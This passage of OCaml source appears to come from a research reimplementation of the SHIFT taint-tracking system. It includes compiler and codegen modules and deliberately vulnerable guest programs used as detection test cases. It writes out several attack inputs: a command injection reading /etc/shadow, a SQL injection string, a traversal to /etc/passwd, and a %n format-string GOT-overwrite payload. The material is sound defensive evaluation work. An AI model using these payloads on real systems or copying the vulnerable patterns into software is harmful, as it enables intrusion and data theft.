          "GET /ping.cgi?host=127.0.0.1;cat${IFS}/etc/shadow HTTP/1.0");
    (* the injected host value occupies request bytes 19..48 *)
    provenance = Some ("socket", 19, 48);
    images = [ ("sh", shell) ];
    multiproc = Some "httpd-cgi";
    variants = None;
  }
