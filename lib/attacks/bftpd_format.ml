(* Bftpd (before 0.96) format-string attack leading to arbitrary code
   execution (the paper adjusted Bftpd the same way).

   The FTP daemon passes a client-controlled string to a printf-style
   function as its *format*.  On a varargs ABI the attacker's buffer
   doubles as the argument array, so "%n" stores the output length
   through a pointer the attacker embedded in the message — the classic
   GOT-entry overwrite.  The pointer bytes are tainted network data, so
   the store trips policy L2 (tainted store address). *)

open Build
open Build.Infix

let program =
  {
    Ir.globals =
      [
        (* stand-in for the GOT: slot 0 holds the "address of system()" *)
        global_words "got" [ 0xdead_0001L; 0xdead_0002L ];
      ];
    funcs =
      [
        (* handle one command line; the bug: on an unknown command the
           error reply treats the client text as a format string, with
           the client buffer itself as the varargs area *)
        func "handle_command" ~params:[ "cmd" ]
          ~locals:[ array "reply" 512; scalar "n" ]
          [
            when_ (call "strncmp" [ v "cmd"; str "USER "; i 5 ] ==: i 0)
              [
                Ir.Expr (call "sprintf1" [ v "reply"; str "331 Password required for %s\r\n"; v "cmd" +: i 5 ]);
                Ir.Expr (call "sys_write" [ i 1; v "reply"; call "strlen" [ v "reply" ] ]);
                ret (i 331);
              ];
            when_ (call "strncmp" [ v "cmd"; str "QUIT"; i 4 ] ==: i 0) [ ret (i 221) ];
            (* vulnerable path: cmd+8 is the format, cmd is the
               "argument area" (8-byte aligned like a stack) *)
            set "n" (call "vformat" [ v "reply"; v "cmd" +: i 8; v "cmd" ]);
            Ir.Expr (call "sys_write" [ i 1; v "reply"; v "n" ]);
            ret (i 500);
          ];
        func "main" ~params:[]
          ~locals:[ scalar "sock"; array "cmd" 512; scalar "n"; scalar "status" ]
          [
            set "sock" (call "sys_accept" []);
            when_ (v "sock" <: i 0) [ ret (i 1) ];
            set "status" (i 0);
            while_ (i 1)
              [
                Ir.Expr (call "memset" [ v "cmd"; i 0; i 64 ]);
                set "n" (call "sys_recv" [ v "sock"; v "cmd"; i 256 ]);
                when_ (v "n" <=: i 0) [ Ir.Break ];
                set "status" (call "handle_command" [ v "cmd" ]);
                when_ (v "status" ==: i 221) [ Ir.Break ];
              ];
            ret (v "status");
          ];
      ];
  }

(* the exploit message: 8 bytes of little-endian target address (the
   GOT slot), then the format string whose %n writes through it *)
let exploit_payload got_addr =
  let b = Buffer.create 32 in
  Buffer.add_int64_le b got_addr;
  Buffer.add_string b "overwrite:%n";
  Buffer.contents b

(* The GOT address the attacker would have learned from the binary.
   The data segment layout is deterministic: the scratch slot occupies
   the first 8 bytes, [got] follows. *)
let got_addr = Int64.add (Shift_mem.Addr.in_region 1 0x10000L) 8L

let policy = Shift_policy.Policy.default

let case =
  {
    Attack_case.cve = "N/A";
    program_name = "Bftpd (0.96 prior)";
    language = "C";
    attack_type = "Format string attack";
    detection_policies = "L2";
    expected_policy = "L2";
    program;
    policy;
    benign = (fun w -> Shift_os.World.queue_request w "USER bob");
    exploit = (fun w -> Shift_os.World.queue_request w (exploit_payload got_addr));
    provenance = None;
    images = [];
    multiproc = None;
    variants = None;
  }
