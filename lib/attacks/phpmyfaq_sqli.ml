(* phpMyFAQ 1.6.8 SQL injection (CVE-2007-2372 class).

   The FAQ page concatenates the [id] request parameter directly into a
   SQL query string.  A parameter like "0' OR '1'='1" injects tainted
   quote characters into the query — policy H3.  A benign numeric id
   taints only digits, which H3 permits. *)

open Build
open Build.Infix

let program =
  {
    Ir.globals = [];
    funcs =
      [
        func "param" ~params:[ "req"; "key"; "out" ]
          ~locals:[ scalar "p"; scalar "k"; scalar "ch" ]
          [
            set "p" (call "strstr" [ v "req"; v "key" ]);
            when_ (v "p" ==: i 0) [ ret (i 0 -: i 1) ];
            set "p" (v "p" +: call "strlen" [ v "key" ]);
            set "k" (i 0);
            while_ (v "k" <: i 200)
              [
                set "ch" (load8 (v "p" +: v "k"));
                when_ ((v "ch" ==: i 0) ||: (v "ch" ==: i (Char.code '&'))
                      ||: (v "ch" ==: i (Char.code ' ')))
                  [ Ir.Break ];
                store8 (v "out" +: v "k") (v "ch");
                set "k" (v "k" +: i 1);
              ];
            store8 (v "out" +: v "k") (i 0);
            ret (v "k");
          ];
        func "lookup_faq" ~params:[ "id" ] ~locals:[ array "query" 512 ]
          [
            Ir.Expr
              (call "sprintf1"
                 [ v "query"; str "SELECT answer FROM faqdata WHERE id = '%s' AND active = 'yes'"; v "id" ]);
            ret (call "sys_sql_exec" [ v "query" ]);
          ];
        func "main" ~params:[]
          ~locals:[ scalar "sock"; array "req" 512; array "id" 256 ]
          [
            set "sock" (call "sys_accept" []);
            when_ (v "sock" <: i 0) [ ret (i 1) ];
            Ir.Expr (call "sys_recv" [ v "sock"; v "req"; i 512 ]);
            when_ (call "param" [ v "req"; str "id="; v "id" ] <: i 0) [ ret (i 2) ];
            Ir.Expr (call "lookup_faq" [ v "id" ]);
            Ir.Expr (call "sys_html_out" [ str "<p>answer served</p>"; i 20 ]);
            ret (i 0);
          ];
      ];
  }

let policy = { Shift_policy.Policy.default with Shift_policy.Policy.h3 = true }

let case =
  {
    Attack_case.cve = "CVE-2007-2372";
    program_name = "phpMyFAQ (1.6.8)";
    language = "PHP";
    attack_type = "SQL Command Injection";
    detection_policies = "H3 + Low level policies";
    expected_policy = "H3";
    program;
    policy;
    benign = (fun w -> Shift_os.World.queue_request w "GET /faq.php?id=42 HTTP/1.0");
    exploit =
      (fun w ->
        Shift_os.World.queue_request w "GET /faq.php?id=0'OR'1'='1 HTTP/1.0");
    (* the injected "0'OR'1'='1" occupies request bytes 16..25 *)
    provenance = Some ("socket", 16, 25);
    images = [];
    multiproc = None;
    variants = None;
  }
