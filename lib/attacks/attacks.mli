(** The security-evaluation suite: one guest program per row of the
    paper's Table 2, plus the Figure-1 motivating example
    ({!Qwik_smtpd}). *)

val all : Attack_case.t list
(** In the paper's Table-2 order: tar, gzip, Qwikiwiki, Scry,
    php-stats, phpSysInfo, phpMyFAQ, Bftpd. *)

val find : string -> Attack_case.t option
(** Look up by [program_name] prefix (case-insensitive), extended and
    multi-process cases included (built for the word-level mode). *)

val multiproc : Attack_case.t list
(** Cross-process scenarios under the multi-process OS personality:
    CGI command injection detected in the forked shell, and a
    tar|gzip pipeline traversal detected in the exec'd compressor.
    Run them through {!Attack_case.config}/{!Attack_case.run}, which
    bring the process table and aux images along. *)

val sidechannel : Attack_case.t list
(** Side-channel cases for the leakage detector ({!Shift.Leak}): the
    lookup-table AES toy kernel that leaks key bytes through cache-set
    indexes, and its constant-time rewrite that must come back clean.
    Both carry [variants] and raise no taint alert. *)

val extended : mode:Shift_compiler.Mode.t -> Attack_case.t list
(** Extension cases beyond Table 2, covering the Table-1 policies
    without a Table-2 row: H4 (command injection) and L3 (control-flow
    hijack through a tainted function pointer).  The L3 case embeds
    real code addresses, so it is built per compilation mode. *)
