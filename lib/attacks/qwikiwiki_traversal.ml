(* Qwikiwiki 1.4.1 directory traversal (CVE-2004-2744).

   The wiki builds the page path from the request's [page] parameter
   without checking for "..", so "page=../../../../etc/passwd" walks
   out of the pages directory.  The page name arrives over the network
   (tainted); opening the composed path is the H2 sink with document
   root "pages". *)

open Build
open Build.Infix

let program =
  {
    Ir.globals = [];
    funcs =
      [
        (* copy the value of [key]= from the query string into out
           (stopping at '&', ' ' or end); returns its length or -1 *)
        func "query_param" ~params:[ "req"; "key"; "out" ]
          ~locals:[ scalar "p"; scalar "len"; scalar "ch" ]
          [
            set "p" (call "strstr" [ v "req"; v "key" ]);
            when_ (v "p" ==: i 0) [ ret (i 0 -: i 1) ];
            set "p" (v "p" +: call "strlen" [ v "key" ]);
            set "len" (i 0);
            while_ (i 1)
              [
                set "ch" (load8 (v "p" +: v "len"));
                when_
                  ((v "ch" ==: i 0) ||: (v "ch" ==: i (Char.code '&'))
                  ||: (v "ch" ==: i (Char.code ' ')))
                  [ Ir.Break ];
                store8 (v "out" +: v "len") (v "ch");
                set "len" (v "len" +: i 1);
              ];
            store8 (v "out" +: v "len") (i 0);
            ret (v "len");
          ];
        func "serve_page" ~params:[ "page" ]
          ~locals:[ array "path" 192; scalar "fd"; array "body" 1024; scalar "n" ]
          [
            Ir.Expr (call "strcpy" [ v "path"; str "pages/" ]);
            Ir.Expr (call "strcat" [ v "path"; v "page" ]);
            Ir.Expr (call "strcat" [ v "path"; str ".txt" ]);
            set "fd" (call "sys_open" [ v "path" ]);
            when_ (v "fd" <: i 0)
              [
                Ir.Expr (call "sys_html_out" [ str "<h1>No such page</h1>"; i 21 ]);
                ret (i 404);
              ];
            set "n" (call "sys_read" [ v "fd"; v "body"; i 1024 ]);
            Ir.Expr (call "sys_html_out" [ v "body"; v "n" ]);
            ret (i 200);
          ];
        func "main" ~params:[]
          ~locals:[ scalar "sock"; array "req" 512; array "page" 128; scalar "len" ]
          [
            set "sock" (call "sys_accept" []);
            when_ (v "sock" <: i 0) [ ret (i 1) ];
            Ir.Expr (call "sys_recv" [ v "sock"; v "req"; i 512 ]);
            set "len" (call "query_param" [ v "req"; str "page="; v "page" ]);
            when_ (v "len" <: i 0) [ ret (i 2) ];
            ret (call "serve_page" [ v "page" ]);
          ];
      ];
  }

let policy =
  { Shift_policy.Policy.default with Shift_policy.Policy.h2 = Some "pages" }

let case =
  {
    Attack_case.cve = "CVE-2004-2744";
    program_name = "Qwikiwiki (1.4.1)";
    language = "PHP";
    attack_type = "Directory Traversal";
    detection_policies = "H2 + Low level policies";
    expected_policy = "H2";
    program;
    policy;
    benign =
      (fun w ->
        Shift_os.World.add_file w ~tainted:false "pages/welcome.txt" "<p>Welcome!</p>";
        Shift_os.World.queue_request w "GET /index.php?page=welcome HTTP/1.0");
    exploit =
      (fun w ->
        Shift_os.World.add_file w ~tainted:false "pages/welcome.txt" "<p>Welcome!</p>";
        Shift_os.World.queue_request w
          "GET /index.php?page=../../../../etc/passwd%00 HTTP/1.0");
    provenance = None;
    images = [];
    multiproc = None;
    variants = None;
  }
