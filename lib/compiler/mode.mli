(** Instrumentation modes of the SHIFT compiler. *)

type enhancements = {
  set_clear_nat : bool;
      (** §6.3 enhancement 1: [setnat]/[clrnat] instructions replace the
          artificial NaT-generation and spill/fill NaT-clearing
          sequences. *)
  nat_aware_cmp : bool;
      (** §6.3 enhancement 2: a compare that works on NaT operands
          replaces the compare-relaxation code. *)
}

type t =
  | Uninstrumented
      (** plain compilation, the baseline of every slowdown ratio *)
  | Shift of { granularity : Shift_mem.Granularity.t; enh : enhancements }
      (** the paper's system: NaT-based register tracking plus
          instrumented loads/stores maintaining the memory bitmap *)
  | Software_dbt of { granularity : Shift_mem.Granularity.t }
      (** LIFT-like all-software baseline: register tags live in a
          shadow table in memory, every instruction is instrumented *)

val no_enh : enhancements

(** Set/clear NaT only. *)
val enh1 : enhancements

val enh_both : enhancements

(** Byte granularity, base ISA. *)
val shift_byte : t

(** Word granularity, base ISA. *)
val shift_word : t

val uses_nat : t -> bool
val to_string : t -> string
val pp : Format.formatter -> t -> unit

val of_string : string -> (t, string) result
(** Parse a mode name: the CLI spellings ([none], [word], [byte],
    [word+setclr], [byte+both], [dbt], ...) and the canonical
    {!to_string} forms are both accepted, so
    [of_string (to_string m) = Ok m] for every mode.  The error string
    names the accepted spellings.  This is the single mode parser the
    CLI and the serve wire protocol share. *)
