type enhancements = { set_clear_nat : bool; nat_aware_cmp : bool }

type t =
  | Uninstrumented
  | Shift of { granularity : Shift_mem.Granularity.t; enh : enhancements }
  | Software_dbt of { granularity : Shift_mem.Granularity.t }

let no_enh = { set_clear_nat = false; nat_aware_cmp = false }
let enh1 = { set_clear_nat = true; nat_aware_cmp = false }
let enh_both = { set_clear_nat = true; nat_aware_cmp = true }

let shift_byte = Shift { granularity = Shift_mem.Granularity.Byte; enh = no_enh }
let shift_word = Shift { granularity = Shift_mem.Granularity.Word; enh = no_enh }

let uses_nat = function
  | Uninstrumented | Software_dbt _ -> false
  | Shift _ -> true

let to_string = function
  | Uninstrumented -> "uninstrumented"
  | Shift { granularity; enh } ->
      Printf.sprintf "shift-%s%s%s"
        (Shift_mem.Granularity.to_string granularity)
        (if enh.set_clear_nat then "+setclr" else "")
        (if enh.nat_aware_cmp then "+tacmp" else "")
  | Software_dbt { granularity } ->
      Printf.sprintf "software-dbt-%s" (Shift_mem.Granularity.to_string granularity)

let pp ppf m = Format.pp_print_string ppf (to_string m)

(* Accepts both the CLI spellings (none, word, byte+setclr, dbt, ...)
   and the canonical [to_string] forms, so every mode round-trips:
   [of_string (to_string m) = Ok m]. *)
let of_string s =
  let err () =
    Error
      (Printf.sprintf
         "unknown mode %S (try none, word, byte, word+setclr, byte+both, dbt)" s)
  in
  match String.split_on_char '+' s with
  | [] -> err ()
  | base :: enhs -> (
      let known = [ "setclr"; "tacmp"; "both" ] in
      if List.exists (fun e -> not (List.mem e known)) enhs then err ()
      else
        let enh =
          {
            set_clear_nat = List.mem "setclr" enhs || List.mem "both" enhs;
            nat_aware_cmp = List.mem "tacmp" enhs || List.mem "both" enhs;
          }
        in
        let shift granularity = Ok (Shift { granularity; enh }) in
        let plain m = if enhs = [] then Ok m else err () in
        match base with
        | "none" | "uninstrumented" -> plain Uninstrumented
        | "dbt" | "software" | "software-dbt-word" ->
            plain (Software_dbt { granularity = Shift_mem.Granularity.Word })
        | "software-dbt-byte" ->
            plain (Software_dbt { granularity = Shift_mem.Granularity.Byte })
        | "word" | "shift-word" -> shift Shift_mem.Granularity.Word
        | "byte" | "shift-byte" -> shift Shift_mem.Granularity.Byte
        | _ -> err ())
