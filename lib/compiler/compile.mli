(** Top-level compiler driver: validate, lay out data, generate code,
    instrument, assemble. *)

exception Error of string

val compile :
  ?mode:Mode.t ->
  ?taint_returns:string list ->
  ?keep_taint_markers:bool ->
  Ir.program ->
  Image.t
(** Compile a whole program (application plus any runtime functions
    already merged in).  The program must define [main].

    [taint_returns] implements the paper's §3.3.1 taint source (4),
    "return values of specific functions", driven by the configuration
    file: every call to a listed function gets its result register
    tagged.  In the SHIFT modes the tag is the NaT bit; the software-DBT
    mode updates its shadow table; uninstrumented code ignores it.

    @raise Error on validation or code-generation failure. *)
