exception Error of string

(* §3.3.1 source (4): tag the result register after calls to the
   configured functions.  The marker is a plain [setnat r8]; the
   instrumentation pass lowers it per mode. *)
let insert_return_taints ~taint_returns items =
  if taint_returns = [] then items
  else
    List.concat_map
      (fun item ->
        match item with
        | Shift_isa.Program.I { op = Shift_isa.Instr.Call f; _ }
          when List.mem f taint_returns ->
            [ item; Shift_isa.Program.I (Shift_isa.Instr.mk (Shift_isa.Instr.Setnat Shift_isa.Reg.ret)) ]
        | _ -> [ item ])
      items

let compile ?(mode = Mode.Uninstrumented) ?(taint_returns = []) ?keep_taint_markers
    (prog : Ir.program) =
  (try Ir.validate ~externals:Codegen.externals prog
   with Ir.Invalid msg -> raise (Error msg));
  if Ir.find_func prog "main" = None then raise (Error "program has no main function");
  let dataseg = Layout.Dataseg.create () in
  List.iter (Layout.Dataseg.add_global dataseg) prog.globals;
  let scratch_addr = Layout.Dataseg.symbol dataseg Layout.scratch_symbol in
  let units =
    try
      ("_start", Codegen.gen_start ())
      :: List.map (fun (f : Ir.func) -> (f.fname, Codegen.gen_func dataseg f)) prog.funcs
    with Codegen.Codegen_error msg -> raise (Error msg)
  in
  let instrumented =
    List.map
      (fun (name, items) ->
        let items = insert_return_taints ~taint_returns items in
        (name,
          Instrument.instrument ~mode ?keep_taint_markers ~scratch_addr
            ~is_start:(name = "_start") items))
      units
  in
  let support = Instrument.support_units ~mode in
  let count_instrs items =
    List.fold_left
      (fun acc -> function Shift_isa.Program.I _ -> acc + 1 | Shift_isa.Program.Label _ -> acc)
      0 items
  in
  let func_sizes = List.map (fun (name, items) -> (name, count_instrs items)) instrumented in
  let all_items = List.concat_map snd instrumented @ support in
  let program =
    try Shift_isa.Program.assemble all_items
    with Shift_isa.Program.Assembly_error msg -> raise (Error msg)
  in
  {
    Image.program;
    data = Layout.Dataseg.chunks dataseg;
    symbols = Layout.Dataseg.symbols dataseg;
    mode;
    func_sizes;
  }
