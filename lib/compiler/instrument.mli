(** The SHIFT instrumentation pass (paper §4.2, Figure 5).

    Runs per compilation unit on the final instruction stream, after
    register allocation — the same position the paper's GCC phase
    occupies (between [pass_leaf_regs] and [sched2]).  Only instructions
    with provenance [Orig] are rewritten:

    - loads gain bitmap-consult code and a predicated taint of the
      destination register;
    - stores gain a bitmap read-modify-write and are converted to the
      spill form so a tainted source does not fault;
    - compares gain NaT-stripping relaxation code (or become taint-aware
      compares when that §6.3 enhancement is enabled);
    - each function entry regenerates the NaT source register with a
      speculative load from a faked invalid address (or nothing, when the
      set/clear-NaT enhancement is enabled);
    - [_start] additionally materialises the reserved constants (the
      implemented-bits mask and the scratch-slot/shadow-base address).

    The software-DBT mode instead rewrites {e every} instruction to
    maintain a register shadow-tag table in memory, LIFT-style. *)

val instrument :
  mode:Mode.t ->
  ?keep_taint_markers:bool ->
  scratch_addr:int64 ->
  is_start:bool ->
  Shift_isa.Program.item list ->
  Shift_isa.Program.item list
(** Rewrite one unit (the item list of a single function).

    [keep_taint_markers] (default [false]) only matters under
    [Mode.Uninstrumented]: the Orig-provenance [setnat]/[clrnat] taint
    markers (the [untaint] builtin, tainted-return sources) are normally
    dropped there, but a decoupled tag backend needs them kept in the
    stream as coprocessor directives — the machine then skips the
    actual NaT write, so no stray NaT can fault. *)

val support_units : mode:Mode.t -> Shift_isa.Program.item list
(** Extra units a mode needs (the software-DBT alert stub). *)

val invalid_address : int64
(** The faked non-canonical address used to conjure a NaT bit. *)

(** {1 Ablation knobs}

    Compiler-optimization ablations for the benchmark harness.  Both
    default to the optimized setting; flip them (and recompile) to
    measure the design choices. *)

val relax_all_compares : bool ref
(** [true]: relax every compare instead of only those the static taint
    analysis cannot prove clean (default [false]). *)

val skip_save_restore : bool ref
(** [false]: also instrument the compiler's register save/restore
    spill/fill traffic (default [true] = skip it; the NaT bit rides in
    UNAT). *)

(** {1 NaT-source strategy (§4.4)} *)

type nat_source_strategy =
  | Per_function  (** default: one speculative-load sequence per entry *)
  | Per_use       (** regenerate at every tainting site — the strategy
                      the paper measured at ~3X degradation *)

val nat_source_strategy : nat_source_strategy ref

(** {1 Pointer policy (§3.3.2)} *)

type pointer_policy =
  | Fault_on_tainted_pointer
      (** default: using a tainted address faults (policies L1/L2) *)
  | Propagate_pointer_taint
      (** strip the address tag before the access and fold it into the
          accessed data's tag instead: tainted pointers dereference
          legally, results stay tainted *)

val pointer_policy : pointer_policy ref
