open Shift_isa

let intrinsics =
  [
    ("sys_exit", (Sysno.exit_, 1));
    ("sys_read", (Sysno.read, 3));
    ("sys_write", (Sysno.write, 3));
    ("sys_open", (Sysno.open_, 1));
    ("sys_close", (Sysno.close, 1));
    ("sys_recv", (Sysno.recv, 3));
    ("sys_send", (Sysno.send, 3));
    ("sys_sbrk", (Sysno.sbrk, 1));
    ("sys_sendfile", (Sysno.sendfile, 3));
    ("sys_system", (Sysno.system, 1));
    ("sys_sql_exec", (Sysno.sql_exec, 1));
    ("sys_html_out", (Sysno.html_out, 2));
    ("sys_taint_set", (Sysno.taint_set, 3));
    ("sys_taint_chk", (Sysno.taint_chk, 2));
    ("sys_accept", (Sysno.accept, 0));
    ("sys_spawn", (Sysno.spawn, 2));
    ("sys_join", (Sysno.join, 1));
    ("sys_fork", (Sysno.fork, 0));
    ("sys_exec", (Sysno.exec, 2));
    ("sys_wait", (Sysno.wait, 1));
    ("sys_pipe", (Sysno.pipe, 1));
    ("sys_dup", (Sysno.dup, 1));
    ("sys_getpid", (Sysno.getpid, 0));
    ("sys_getarg", (Sysno.getarg, 2));
  ]

(* [untaint e]: the compiler builtin behind the paper's bounds-checking
   and translation-table rules (§3.3.2): application-specific rules tell
   SHIFT a value has been validated, and the instrumentation clears its
   tag.  Codegen emits a [clrnat]; the instrumentation pass lowers it
   per mode (spill/fill on the base ISA, [clrnat] with enhancement 1, a
   shadow-table clear under software DBT). *)
let untaint_builtin = "untaint"

(* [fetchadd a n]: the IA-64 atomic read-modify-write, for guest
   synchronisation (ticket locks in the runtime library) *)
let fetchadd_builtin = "fetchadd"

let externals = untaint_builtin :: fetchadd_builtin :: List.map fst intrinsics

(* register pools *)
let first_var_reg = 40
let var_reg_count = 24
let first_temp_reg = 64
let temp_reg_count = 56 (* r64-r119; r120 belongs to the instrumentation *)
let addr_scratch = 126

(* codegen predicates (p1/p2); p6/p7 belong to the instrumentation *)
let pt = 1
let pf = 2

(* frame: a fixed save area for vars and temps, then arrays, then
   spilled scalars *)
let save_slots = var_reg_count + temp_reg_count
let save_area = 8 * save_slots

let save_slot_of_reg r =
  if r >= first_var_reg && r < first_var_reg + var_reg_count then 8 * (r - first_var_reg)
  else if r >= first_temp_reg && r < first_temp_reg + temp_reg_count then
    8 * (var_reg_count + (r - first_temp_reg))
  else invalid_arg "save_slot_of_reg"

exception Codegen_error of string

let err fmt = Printf.ksprintf (fun s -> raise (Codegen_error s)) fmt

type ctx = {
  dataseg : Layout.Dataseg.t;
  fname : string;
  var_reg : (string, Reg.t) Hashtbl.t;
  var_slot : (string, int) Hashtbl.t;
  arr_off : (string, int) Hashtbl.t;
  frame_size : int;
  epilogue : string;
  mutable temp_sp : int;
  mutable items : Program.item list; (* reversed *)
  mutable loops : (string * string) list; (* (break, continue) *)
  mutable labels : int;
  (* out-of-line recovery blocks for Guard statements: (recovery label,
     continuation label, handler body, loop context at the guard) *)
  mutable recoveries : (string * string * Ir.block * (string * string) list) list;
}

let emit ctx op = ctx.items <- Program.I (Instr.mk op) :: ctx.items
let emitq ctx qp op = ctx.items <- Program.I (Instr.mk ~qp op) :: ctx.items
let place_label ctx l = ctx.items <- Program.Label l :: ctx.items

let fresh_label ctx hint =
  ctx.labels <- ctx.labels + 1;
  Printf.sprintf "%s$%s%d" ctx.fname hint ctx.labels

let alloc_temp ctx =
  if ctx.temp_sp >= first_temp_reg + temp_reg_count then
    err "function %S: expression too deep (out of temporaries)" ctx.fname;
  let r = ctx.temp_sp in
  ctx.temp_sp <- ctx.temp_sp + 1;
  r

let free_temp ctx r =
  if r <> ctx.temp_sp - 1 then err "temporary freed out of order in %S" ctx.fname;
  ctx.temp_sp <- ctx.temp_sp - 1

let with_temp ctx f =
  let r = alloc_temp ctx in
  let y = f r in
  free_temp ctx r;
  y

let width_of : Ir.width -> Instr.width = function
  | Ir.W1 -> Instr.W1
  | Ir.W2 -> Instr.W2
  | Ir.W4 -> Instr.W4
  | Ir.W8 -> Instr.W8

(* frame-offset addressing through the dedicated scratch register *)
let frame_addr ctx off =
  emit ctx (Instr.Arith (Instr.Add, addr_scratch, Reg.sp, Instr.Imm (Int64.of_int off)));
  addr_scratch

let cmp_cond_of : Ir.binop -> Cond.t option = function
  | Ir.Eq -> Some Cond.Eq
  | Ir.Ne -> Some Cond.Ne
  | Ir.Lt -> Some Cond.Lt
  | Ir.Le -> Some Cond.Le
  | Ir.Gt -> Some Cond.Gt
  | Ir.Ge -> Some Cond.Ge
  | Ir.Ltu -> Some Cond.Ltu
  | Ir.Geu -> Some Cond.Geu
  | _ -> None

let arith_of : Ir.binop -> Instr.arith option = function
  | Ir.Add -> Some Instr.Add
  | Ir.Sub -> Some Instr.Sub
  | Ir.Mul -> Some Instr.Mul
  | Ir.Div -> Some Instr.Div
  | Ir.Rem -> Some Instr.Rem
  | Ir.Band -> Some Instr.And
  | Ir.Bor -> Some Instr.Or
  | Ir.Bxor -> Some Instr.Xor
  | Ir.Shl -> Some Instr.Shl
  | Ir.Shr -> Some Instr.Shr
  | Ir.Sar -> Some Instr.Sar
  | _ -> None

let live_regs ctx ~up_to =
  let vars = Hashtbl.fold (fun _ r acc -> r :: acc) ctx.var_reg [] in
  let temps = ref [] in
  for r = up_to - 1 downto first_temp_reg do
    temps := r :: !temps
  done;
  List.sort_uniq compare (vars @ !temps)

let save_regs ctx regs =
  List.iter
    (fun r ->
      let a = frame_addr ctx (save_slot_of_reg r) in
      emit ctx (Instr.St { width = Instr.W8; addr = a; src = r; spill = true }))
    regs

let restore_regs ctx regs =
  List.iter
    (fun r ->
      let a = frame_addr ctx (save_slot_of_reg r) in
      emit ctx (Instr.Ld { width = Instr.W8; dst = r; addr = a; spec = false; fill = true }))
    regs

let rec emit_expr ctx (e : Ir.expr) dst =
  match e with
  | Ir.Int v -> emit ctx (Instr.Movi (dst, v))
  | Ir.Str s ->
      let addr = Layout.Dataseg.intern_string ctx.dataseg s in
      emit ctx (Instr.Movi (dst, addr))
  | Ir.Var x -> (
      match Hashtbl.find_opt ctx.var_reg x with
      | Some r -> emit ctx (Instr.Mov (dst, r))
      | None -> (
          match Hashtbl.find_opt ctx.var_slot x with
          | Some off ->
              let a = frame_addr ctx off in
              emit ctx (Instr.Ld { width = Instr.W8; dst; addr = a; spec = false; fill = false })
          | None -> (
              match Hashtbl.find_opt ctx.arr_off x with
              | Some off ->
                  emit ctx (Instr.Arith (Instr.Add, dst, Reg.sp, Instr.Imm (Int64.of_int off)))
              | None -> (
                  match Layout.Dataseg.symbol ctx.dataseg x with
                  | addr -> emit ctx (Instr.Movi (dst, addr))
                  | exception Not_found -> err "unbound variable %S in %S" x ctx.fname))))
  | Ir.Load (w, a) ->
      emit_expr ctx a dst;
      emit ctx (Instr.Ld { width = width_of w; dst; addr = dst; spec = false; fill = false })
  | Ir.Unop (Ir.Neg, a) ->
      emit_expr ctx a dst;
      emit ctx (Instr.Arith (Instr.Sub, dst, Reg.zero, Instr.R dst))
  | Ir.Unop (Ir.Bnot, a) ->
      emit_expr ctx a dst;
      emit ctx (Instr.Arith (Instr.Xor, dst, dst, Instr.Imm (-1L)))
  | Ir.Unop (Ir.Lnot, a) ->
      emit_expr ctx a dst;
      emit ctx
        (Instr.Cmp { cond = Cond.Eq; pt; pf; src1 = dst; src2 = Instr.Imm 0L; taint_aware = false });
      emit ctx (Instr.Movi (dst, 0L));
      emitq ctx pt (Instr.Movi (dst, 1L))
  | Ir.Binop (Ir.Land, a, b) ->
      let l_end = fresh_label ctx "and" in
      emit_expr ctx a dst;
      emit ctx
        (Instr.Cmp { cond = Cond.Eq; pt; pf; src1 = dst; src2 = Instr.Imm 0L; taint_aware = false });
      emit ctx (Instr.Movi (dst, 0L));
      emitq ctx pt (Instr.Br l_end);
      emit_expr ctx b dst;
      emit ctx
        (Instr.Cmp { cond = Cond.Ne; pt; pf; src1 = dst; src2 = Instr.Imm 0L; taint_aware = false });
      emit ctx (Instr.Movi (dst, 0L));
      emitq ctx pt (Instr.Movi (dst, 1L));
      place_label ctx l_end
  | Ir.Binop (Ir.Lor, a, b) ->
      let l_end = fresh_label ctx "or" in
      emit_expr ctx a dst;
      emit ctx
        (Instr.Cmp { cond = Cond.Ne; pt; pf; src1 = dst; src2 = Instr.Imm 0L; taint_aware = false });
      emit ctx (Instr.Movi (dst, 1L));
      emitq ctx pt (Instr.Br l_end);
      emit_expr ctx b dst;
      emit ctx
        (Instr.Cmp { cond = Cond.Ne; pt; pf; src1 = dst; src2 = Instr.Imm 0L; taint_aware = false });
      emit ctx (Instr.Movi (dst, 0L));
      emitq ctx pt (Instr.Movi (dst, 1L));
      place_label ctx l_end
  | Ir.Binop (op, a, b) -> (
      match arith_of op with
      | Some ar ->
          emit_expr ctx a dst;
          with_temp ctx (fun t2 ->
              emit_expr ctx b t2;
              emit ctx (Instr.Arith (ar, dst, dst, Instr.R t2)))
      | None -> (
          match cmp_cond_of op with
          | Some cond ->
              emit_expr ctx a dst;
              with_temp ctx (fun t2 ->
                  emit_expr ctx b t2;
                  emit ctx
                    (Instr.Cmp { cond; pt; pf; src1 = dst; src2 = Instr.R t2; taint_aware = false }));
              emit ctx (Instr.Movi (dst, 0L));
              emitq ctx pt (Instr.Movi (dst, 1L))
          | None -> err "unhandled binop in %S" ctx.fname))
  | Ir.Fnptr f -> emit ctx (Instr.Lea (dst, f))
  | Ir.Call (f, args) -> emit_call ctx f args dst
  | Ir.Icall (f, args) ->
      if List.length args > Reg.max_args then
        err "indirect call with more than %d arguments in %S" Reg.max_args ctx.fname;
      let base = ctx.temp_sp in
      let tf = alloc_temp ctx in
      emit_expr ctx f tf;
      let temps =
        List.map
          (fun a ->
            let t = alloc_temp ctx in
            emit_expr ctx a t;
            t)
          args
      in
      let saved = live_regs ctx ~up_to:base in
      save_regs ctx saved;
      List.iteri (fun i t -> emit ctx (Instr.Mov (Reg.arg i, t))) temps;
      List.iter (fun t -> free_temp ctx t) (List.rev temps);
      emit ctx (Instr.Call_reg tf);
      free_temp ctx tf;
      restore_regs ctx saved;
      emit ctx (Instr.Mov (dst, Reg.ret))

and emit_call ctx f args dst =
  if f = untaint_builtin then begin
    match args with
    | [ a ] ->
        emit_expr ctx a dst;
        emit ctx (Instr.Clrnat dst)
    | _ -> err "untaint takes exactly one argument (in %S)" ctx.fname
  end
  else if f = fetchadd_builtin then begin
    match args with
    | [ a; n ] ->
        with_temp ctx (fun ta ->
            emit_expr ctx a ta;
            with_temp ctx (fun tn ->
                emit_expr ctx n tn;
                emit ctx (Instr.Fetchadd { dst; addr = ta; inc = tn })))
    | _ -> err "fetchadd takes exactly two arguments (in %S)" ctx.fname
  end
  else
  match List.assoc_opt f intrinsics with
  | Some (sysno, arity) ->
      if List.length args <> arity then
        err "intrinsic %S called with %d arguments, expected %d in %S" f (List.length args)
          arity ctx.fname;
      let temps =
        List.map
          (fun a ->
            let t = alloc_temp ctx in
            emit_expr ctx a t;
            t)
          args
      in
